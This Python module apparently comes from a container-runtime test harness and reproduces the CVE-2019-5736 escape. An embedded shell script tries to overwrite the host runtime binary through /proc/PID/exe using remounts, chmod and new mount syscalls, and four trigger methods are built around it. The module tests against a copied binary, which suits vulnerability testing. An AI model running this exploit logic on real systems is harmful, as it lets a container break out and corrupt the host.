"""CVE-2019-5736: the runtime's own binary, attacked from a container through /proc/PID/exe."""

import os
import re
import shutil
import subprocess

from harness import attack, trace
from harness.facts import CAPABILITIES
from harness.onlooker import Onlooker

# Whatever a runtime calls between its first moment inside and the program.
STEPS = (
    "setsid,keyctl,close_range,setgroups,setresgid,setresuid,capset,chdir,getcwd,umask,faccessat2"
)
EMPTY_PATH, CLONE, REMOUNT_BIND, FROM_EMPTY, PICK_EMPTY, RECONFIGURE = 0x1000, 1, 0x1020, 4, 8, 7
# struct mount_attr with MOUNT_ATTR_RDONLY in attr_clr, its second number of 64 bits, and its size.
WRITABLE = ("bit:64", 32)
# Holds on to the file, and once nobody executes it any more (ETXTBSY) tries to change it: as it is,
# by its mount in four ways, and by a copy of its mount.
CLUTCH = f"""\
read p <&4
{{
  echo held >&3
  read word <&4
  touch /target
  /act mount @ /proc/self/fd/5 @ {REMOUNT_BIND} @ , mount @ /proc/$p/root @ {REMOUNT_BIND} @ , \\
    fchmod 5 0777 , fchmodat -100 /proc/self/fd/5 0777 , \\
    mount_setattr 5 '' {EMPTY_PATH} {WRITABLE[0]} {WRITABLE[1]}
  /act fspick 5 '' {PICK_EMPTY} , fsconfig 6 0 rw @ 0 , fsconfig 6 {RECONFIGURE} @ @ 0
  /act open_tree 5 '' {EMPTY_PATH | CLONE} , mount @ /proc/self/fd/6 @ {REMOUNT_BIND} @ , \\
    mount_setattr 6 '' {EMPTY_PATH} {WRITABLE[0]} {WRITABLE[1]} , \\
    move_mount 6 '' -100 /target {FROM_EMPTY}
  for file in /proc/self/fd/5 /target; do
    echo overwritten 1<> $file
    echo overwritten > $file
  done
  echo tried >&3
}} 5< /proc/$p/exe || echo denied >&3
"""


def everything():
    """Every capability that can be given here."""
    bits = int(re.search(r"CapBnd:\s(\w+)", trace.status_of("self"))[1], 16)
    return [f"CAP_{name}" for number, name in enumerate(CAPABILITIES) if bits >> number & 1]


# The least that opening another's /proc/PID/exe takes, while that has more rights.
TRACER = ["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_FOWNER"]
ATTACKERS = {"privileged": everything(), "tracer": TRACER}
WAYS = ("watched", "program", "script", "created")


def install_copy(box):
    """Makes the box's runtime a copy, so that an attack that succeeds ruins that alone."""
    if box.runtime.kind == "naive":
        box.runtime.binary = attack.pathlib.Path(attack.install_naive(box.directory))
        return
    place = box.path("installed")
    place.mkdir()
    box.runtime.binary = shutil.copy(box.runtime.binary, place)


def bring_libraries(box):
    """What the runtime's binary is linked with, so that it can be executed in the container."""
    binary = next(iter(attack.pathlib.Path(box.runtime.binary).parent.glob("interpreter")), None)
    command = ["ldd", binary or box.runtime.binary]
    said = subprocess.run(command, capture_output=True, text=True, check=False).stdout
    for path in re.findall(r"(/\S+) \(0x", said):
        place = box.rootfs / path.lstrip("/")
        place.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(path, place)


ITSELF = ("/proc/self/exe", "--version")


def arguments(box, way):
    """What the runtime is to do: exec of any program, of the runtime itself or of a script that
    names it, or a container that begins with the runtime, in the pid namespace of the attacker."""
    if way == "watched":
        return ["exec", box.id, "/bin/true"]
    if way == "created":
        other = box.sibling("joined")
        bring_libraries(other)
        other.bundle.namespace("pid", f"/proc/{box.pid}/ns/pid")
        other.args(*ITSELF)
        other.bundle.save()
        return ["run", "--bundle", other.bundle.path, other.id]
    bring_libraries(box)
    if way == "program":
        return ["exec", box.id, *ITSELF]
    script = box.rootfs / "script"
    script.write_text("#!/proc/self/exe\n")
    script.chmod(0o755)
    return ["exec", box.id, "/script"]


def overwrite(box, way, attacker, **more):
    """Runs the attack; gives what the binary was and what it is, and what the attacker said, after
    the name of the image that was attacked."""
    before = attack.fingerprint(box.runtime.binary)
    onlooker = Onlooker(box, CLUTCH, ATTACKERS[attacker])
    names = STEPS if way == "watched" else "execve"
    with trace.Halt(box, names, *arguments(box, way), wanted=trace.is_within, **more) as halt:
        image = os.readlink(f"/proc/{halt.pid}/exe")
        said = [onlooker.tell(trace.pid_within(halt.pid))]
    os.sync()
    if said[-1] == "held":
        said.append(onlooker.tell("now"))
    return before, attack.fingerprint(box.runtime.binary), [image, *said]
